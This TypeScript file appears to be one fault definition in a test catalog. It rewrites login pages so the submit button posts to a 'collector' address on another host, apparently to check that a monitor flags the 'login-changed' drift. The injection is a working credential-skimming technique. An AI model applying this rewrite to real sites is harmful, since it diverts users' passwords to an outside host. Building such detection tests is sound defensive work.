import type { FaultFile } from './catalog.ts';
import { collector, withLoginPages } from './collector.ts';

export default {
  what: 'the login button has an address of its own, on another host',
  handlers: withLoginPages((text) =>
    text.replace('<button type="submit"', `<button type="submit" formaction="${collector}/login"`),
  ),
  drift: { class: 'login-changed' },
} satisfies FaultFile;
